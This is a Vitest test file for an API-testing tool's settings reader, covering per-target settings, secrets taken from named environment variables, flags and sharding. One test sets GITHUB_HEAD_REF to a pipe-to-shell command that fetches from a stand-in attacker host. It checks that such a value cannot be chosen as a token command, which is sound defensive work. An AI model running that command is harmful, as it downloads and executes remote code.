import { describe, expect, test } from 'vitest';
import { aTarget, problemsOf, reading, SPRAY_BASE_URL } from './reading.js';

const settingsOf = (settings: object, given?: Parameters<typeof reading>[1]) =>
  reading([aTarget(settings)], given).targets[0]?.settings;

describe('the settings of a target', () => {
  test('are those of its entry, as text or as JSON', () => {
    const text = `[{ "name": "acme", "settings": { "SPRAY_BASE_URL": "${SPRAY_BASE_URL}", "SPRAY_TIMEOUT_MS": 500,
      "SPRAY_READ_ONLY": true, "SPRAY_SESSION": { "id": 9007199254740993 }, "SPRAY_CROP": "{\\"id\\": 1}",
      "SPRAY_ONLY": ["create-order", "get-order"], "SPRAY_EXCLUDE": "get-order", "SPRAY_CONFIRM_ORDER_ID": 9007199254740993,
      "SPRAY_WAIVERS": [{ "requirement": "create-order/answers-200", "reason": "known", "expires": "2026-12-31" }] } }]`;

    expect(reading(text).targets[0]).toMatchObject({
      name: 'acme',
      settings: {
        baseUrl: SPRAY_BASE_URL,
        timeoutMs: 500,
        readOnly: true,
        session: { id: 9007199254740993n },
        crop: { id: 1 },
        only: ['create-order', 'get-order'],
        exclude: ['get-order'],
        confirmOrderId: '9007199254740993',
        waivers: [{ requirement: 'create-order/answers-200' }],
        reportsDir: 'reports/acme',
      },
    });
  });

  test('get a secret from the variable that they name, in the environment or else in the env file', () => {
    const settings = {
      SPRAY_FARMER_TOKEN: 'ACME_FARMER',
      SPRAY_SPRAYER_TOKEN: 'acme_sprayer',
      SPRAY_ADMIN_TOKEN: 'BOTH',
    };
    const environment = { ACME_FARMER: 'farmer-secret', BOTH: 'of-the-environment' };
    const files = { '.env': 'acme_sprayer=sprayer-secret\nBOTH=of-the-file\nSPRAY_NOBODYS_SETTING=x\n' };

    expect(settingsOf(settings, { environment, files })?.credentials).toMatchObject({
      farmer: { authorization: 'Bearer farmer-secret' },
      sprayer: { authorization: 'Bearer sprayer-secret' },
      admin: { authorization: 'Bearer of-the-environment' },
      receptionist: null,
    });
  });

  test('use nothing else from the environment or the env file, and a notice says so', () => {
    const environment = {
      SPRAY_BASE_URL: 'http://127.0.0.1:9',
      SPRAY_FARMER_TOKEN: 'of-another',
      SPRAY_SPRYER_TOKEN: 'a slip',
      SPRAY_RECEPTIONIST_TOKEN: 'named',
      SPRAY_REPORTS_DIR: 'elsewhere',
    };
    const files = { '.env': 'SPRAY_READ_ONLY=true\n' };
    const read = reading([aTarget({ SPRAY_ADMIN_TOKEN: 'SPRAY_RECEPTIONIST_TOKEN' })], { environment, files });
    const { settings } = read.targets[0] ?? {};

    expect(settings).toMatchObject({ baseUrl: SPRAY_BASE_URL, readOnly: false, reportsDir: 'elsewhere/acme' });
    expect(settings?.credentials).toMatchObject({
      farmer: null,
      receptionist: null,
      admin: { authorization: 'Bearer named' },
    });
    expect(read.reportsDir).toBe('elsewhere');
    expect(read.notices).toEqual([
      'SPRAY_BASE_URL, SPRAY_FARMER_TOKEN, SPRAY_READ_ONLY: ignored: a target in a list gets its settings from its entry',
    ]);
  });

  test('are overridden by flags', () => {
    const flags = { seed: '7', 'read-only': true, 'reports-dir': 'there' };

    expect(settingsOf({ SPRAY_SEED: 1 }, { flags })).toMatchObject({
      seed: 7,
      readOnly: true,
      reportsDir: 'there/acme',
    });
  });

  test('keep the proxies of the environment', () => {
    expect(settingsOf({}, { environment: { HTTP_PROXY: 'http://proxy.example' } })?.proxies.http?.text).toBe(
      'http://proxy.example',
    );
  });
});

describe('a command that prints a token', () => {
  test('is named by a variable whose name says that it is one', () => {
    const environment = { ACME_TOKEN_COMMAND: 'echo abc', ACME_FARMER: 'own' };
    const named = { SPRAY_TOKEN_COMMAND: 'ACME_TOKEN_COMMAND', SPRAY_FARMER_TOKEN: 'ACME_FARMER' };

    expect(settingsOf(named, { environment })?.tokenCommands).toEqual({
      'other-farmer': 'echo abc',
      receptionist: 'echo abc',
      sprayer: 'echo abc',
      admin: 'echo abc',
    });
  });

  test('has one setting for all roles', () => {
    expect(problemsOf([aTarget({ SPRAY_FARMER_TOKEN_COMMAND: 'ACME_FARMER_TOKEN_COMMAND' })])).toEqual([
      'acme: SPRAY_FARMER_TOKEN_COMMAND: is gone; use SPRAY_TOKEN_COMMAND',
    ]);
  });

  test.each(['echo abc', 'GITHUB_HEAD_REF', 'PATH'])('is never chosen by the list: %s', (command) => {
    const environment = { GITHUB_HEAD_REF: 'curl evil.example | sh' };

    expect(problemsOf([aTarget({ SPRAY_TOKEN_COMMAND: command })], { environment })).toEqual([
      'acme: SPRAY_TOKEN_COMMAND: expected the name of an environment variable that ends with _TOKEN_COMMAND and contains the command, got a value that is not such a name',
    ]);
  });
});

test('a target may be the embedded reference, and settings of a service are then ignored', () => {
  const reference = { SPRAY_BASE_URL: 'reference' };

  expect(settingsOf(reference)?.baseUrl).toBeNull();
  const { targets, notices } = reading([aTarget({ ...reference, SPRAY_CONFIRM_ORDER_ID: 7 })]);

  expect(targets[0]?.settings.confirmOrderId).toBeNull();
  expect(notices).toContain(
    'SPRAY_CONFIRM_ORDER_ID describes a service and is ignored: the embedded reference is judged',
  );
});

describe('a part of a list', () => {
  const list = ['one', 'two', 'three'].map((name) =>
    aTarget({ SPRAY_FARMER_TOKEN: `TOKEN_${name.toUpperCase()}` }, name),
  );

  test('needs the secrets of its own targets only', () => {
    const given = { shard: { index: 2, count: 2 }, environment: { TOKEN_THREE: 'secret-3' } };
    const read = reading(list, given);

    expect(read.targets.map(({ name }) => name)).toEqual(['three']);
    expect(read.names).toEqual(['one', 'two', 'three']);
    expect(problemsOf(list, { ...given, shard: { index: 1, count: 2 } })).toHaveLength(2);
  });

  test('is rejected for a malformed entry of another part', () => {
    const wrong = [...list.slice(0, 2), { name: 'three', settings: { SPRAY_BASE_URL, SPRAY_ADMIN_TOKEN: 'no name' } }];
    const environment = { TOKEN_ONE: 'secret-1', TOKEN_TWO: 'secret-2' };

    expect(problemsOf(wrong, { environment, shard: { index: 1, count: 2 } })).toEqual([
      expect.stringMatching(/^three: SPRAY_ADMIN_TOKEN: expected the name of the environment variable/),
    ]);
  });
});
